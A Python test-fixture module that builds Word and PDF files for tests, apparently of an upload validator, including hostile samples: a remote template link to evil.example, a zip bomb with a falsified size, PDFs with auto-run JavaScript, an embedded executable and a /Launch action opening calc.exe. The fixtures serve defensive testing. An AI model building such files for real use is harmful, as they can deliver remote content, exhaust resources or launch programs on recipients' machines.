"""Documents made by the tests: good ones, and hostile ones."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

OPEN_XML = "application/vnd.openxmlformats-officedocument"
DOCX, XLSX = f"{OPEN_XML}.wordprocessingml.document", f"{OPEN_XML}.spreadsheetml.sheet"
PDF, TEXT, CSV = "application/pdf", "text/plain", "text/csv"
WORD = f"{DOCX}.main+xml"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def docx(more: Mapping[str, bytes] | None = None, *, main: str = WORD, doctype: str = "") -> bytes:
    """Return a Word document with more parts in it."""
    override = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    types = f'<?xml version="1.0"?>{doctype}<Types>{override}</Types>'
    parts = {"[Content_Types].xml": types.encode(), "word/document.xml": b"<document>Hello</document>"}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in (parts | dict(more or {})).items():
            archive.writestr(name, body)
    return file.getvalue()


def relationships(target_mode: str, kind: str = TEMPLATE) -> dict[str, bytes]:
    """Return the part that names a template."""
    element = (
        f'<Relationship Id="a" Type="{kind}" Target="http://evil.example/t" TargetMode="{target_mode}"/>'
    )
    return {"word/_rels/settings.xml.rels": f"<Relationships>{element}</Relationships>".encode("utf-16")}


def lying_bomb(size: int = 110_000_000) -> bytes:
    """Return a DOCX with an entry of zeros; its directory claims that the entry has 10 bytes."""
    body = bytearray(docx({"word/media/zeros.bin": bytes(size)}))
    real = size.to_bytes(4, "little")
    return bytes(body.replace(real, (10).to_bytes(4, "little")))


def encrypted_entry() -> bytes:
    """Return a DOCX with the flag of an encrypted entry."""
    body = bytearray(docx())
    body[body.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


def pdf(*, pages: int = 1, script: bool = False, attachment: bool = False, password: str = "") -> bytes:
    """Return a PDF."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(100, 100)
    if script:
        _open_with(writer, "/JavaScript", NameObject("/JS"), "app.alert('hello')")
    if attachment:
        writer.add_attachment("program.exe", b"MZ")
    if password:
        writer.encrypt(password)
    return _written(writer)


def launching_pdf(name: str = "/Launch") -> bytes:
    """Return a PDF that starts a program when it is opened."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    _open_with(writer, "/Launch", NameObject("/F"), "calc.exe")
    return _written(writer).replace(b"/Launch", name.encode())


def _open_with(writer: PdfWriter, action: str, key: NameObject, value: str) -> None:
    content = DictionaryObject({NameObject("/S"): NameObject(action), key: TextStringObject(value)})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(content)


def long_pdf(pages: int = 10_000) -> bytes:
    """Return a PDF of many pages, written by hand because pypdf takes a minute for it."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects = ["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Count {pages}/Kids[{kids}]>>"]
    objects += ["<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * pages
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += f"{number} 0 obj{content}endobj\n".encode()
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end = f"trailer<</Root 1 0 R/Size {len(objects) + 1}>>\nstartxref\n{len(body)}\n%%EOF"
    return body + (head + end).encode()


def _written(writer: PdfWriter) -> bytes:
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()
